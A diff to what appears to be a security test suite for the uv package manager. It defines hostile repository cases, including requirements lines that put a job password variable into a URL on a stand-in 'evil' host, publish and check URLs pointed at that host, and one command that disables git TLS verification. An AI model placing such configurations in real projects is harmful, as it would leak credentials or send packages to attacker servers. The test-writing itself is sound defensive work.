@@ -227,7 +227,7 @@ const names: readonly HostileRepository[] = [
     }),
     tasks: feeds,
     run: "uv lock",
-    expect: "asked",
+    expect: "quiet",
   },
   {
     id: "uv-late",
@@ -281,9 +281,12 @@ const expansions: readonly HostileRepository[] = [
     (option, number): HostileRepository => ({
       id: `uv-expand-line-${number + 1}`,
       title: `a requirements line ${option} with a variable of the job in its address`,
-      files: beside((at) => ({
+      files: (at) => ({
+        // An index of its own that is asked for nothing, so that no line of the requirements is overruled.
+        "pyproject.toml": pyproject([], ownIndex(at).replace("default", "explicit")),
+
         "requirements.txt": `${option} ${at.evil("${UV_INDEX_FIBER_PASSWORD}/evil-1.0.0-py3-none-any.whl")}\nfabrikam-greeting\nevil-two\n`,
-      })),
+      }),
       run: install("-r requirements.txt"),
       expect: option === "-c" || option === "-r" ? "quiet" : "asked",
     }),
@@ -517,9 +520,12 @@ const sameHost: readonly HostileRepository[] = [
     (option, number): HostileRepository => ({
       id: `uv-line-${number + 1}`,
       title: `a requirements line ${option} with an address of another organization`,
-      files: beside((at) => ({
+      files: (at) => ({
+        // An index of its own that is asked for nothing, so that no line of the requirements is overruled.
+        "pyproject.toml": pyproject([], ownIndex(at).replace("default", "explicit")),
+
         "requirements.txt": `${option} ${at.other(option.startsWith("contoso") ? otherWheel : option.includes("index") ? "pypi/simple/" : "pypi/simple/contoso-greeting/")}\nfabrikam-greeting\ncontoso-greeting\n`,
-      })),
+      }),
       run: install("-r requirements.txt"),
       expect: "asked",
     }),
@@ -589,7 +595,7 @@ const sameHost: readonly HostileRepository[] = [
       () => ["contoso-greeting"],
       (at) => `[tool.uv.sources]\ncontoso-greeting = { git = "${at.other("_git/x")}" }\n\n`,
     ),
-    run: "GIT_TERMINAL_PROMPT=0 uv lock",
+    run: "GIT_TERMINAL_PROMPT=0 GIT_SSL_NO_VERIFY=1 uv lock",
     expect: "asked",
   },
 ];
@@ -603,7 +609,7 @@ const publishing: readonly HostileRepository[] = [
       () => [],
       (at) => `[tool.uv]\npublish-url = "${at.evil("upload/")}"\n\n`,
     ),
-    run: `${makeWheel}\nuv publish dist/*.whl`,
+    run: `${makeWheel("lab1")}\nuv publish dist/*.whl`,
     expect: "quiet",
   },
   {
@@ -614,7 +620,7 @@ const publishing: readonly HostileRepository[] = [
       (at) =>
         `${index("shared", at.shared("pypi/simple/"))}[tool.uv]\npublish-url = "${at.evil("upload/")}"\ncheck-url = "${at.feed("pypi/simple/")}"\n\n`,
     ),
-    run: `${makeWheel}\nuv publish dist/*.whl`,
+    run: `${makeWheel("lab2")}\nuv publish dist/*.whl`,
     expect: "asked",
   },
   {
@@ -625,7 +631,7 @@ const publishing: readonly HostileRepository[] = [
       (at) =>
         `${index("shared", at.shared("pypi/simple/"))}[tool.uv]\npublish-url = "${at.other("pypi/upload/")}"\ncheck-url = "${at.feed("pypi/simple/")}"\n\n`,
     ),
-    run: `${makeWheel}\nuv publish dist/*.whl`,
+    run: `${makeWheel("lab3")}\nuv publish dist/*.whl`,
     expect: "asked",
   },
   {
@@ -635,7 +641,7 @@ const publishing: readonly HostileRepository[] = [
       () => [],
       (at) => `[tool.uv]\ncheck-url = "${at.evil("simple/")}"\n\n`,
     ),
-    run: `${makeWheel}\nuv publish dist/*.whl`,
+    run: `${makeWheel("lab4")}\nuv publish dist/*.whl`,
     expect: "quiet",
   },
   {
@@ -647,7 +653,7 @@ const publishing: readonly HostileRepository[] = [
         index("fiber", at.feed("pypi/simple/"), `default = true\npublish-url = "${at.evil("upload/")}"\n`),
       ),
     }),
-    run: `${makeWheel}\nuv publish --index fiber dist/*.whl`,
+    run: `${makeWheel("lab5")}\nuv publish --index fiber dist/*.whl`,
     expect: "asked",
   },
   {
@@ -660,7 +666,7 @@ const publishing: readonly HostileRepository[] = [
         "nested",
       ),
     })),
-    run: `cd nested\n${makeWheel}\nunset UV_PUBLISH_URL UV_PUBLISH_CHECK_URL\nuv publish --index fiber dist/*.whl`,
+    run: `cd nested\n${makeWheel("lab6")}\nunset UV_PUBLISH_URL UV_PUBLISH_CHECK_URL\nuv publish --index fiber dist/*.whl`,
     expect: "asked",
   },
 ];
@@ -849,7 +855,7 @@ const innocent: readonly HostileRepository[] = [
     id: "uv-innocent-publish",
     title: "a wheel to publish",
     files: project(() => []),
-    run: `${makeWheel}\nuv publish dist/*.whl`,
+    run: `${makeWheel("lab7")}\nuv publish dist/*.whl`,
     expect: "works",
   },
   {
@@ -865,7 +871,7 @@ const innocent: readonly HostileRepository[] = [
         ),
       ),
     }),
-    run: `${makeWheel}\nuv publish --index fiber dist/*.whl`,
+    run: `${makeWheel("lab8")}\nuv publish --index fiber dist/*.whl`,
     expect: "works",
   },
 ];
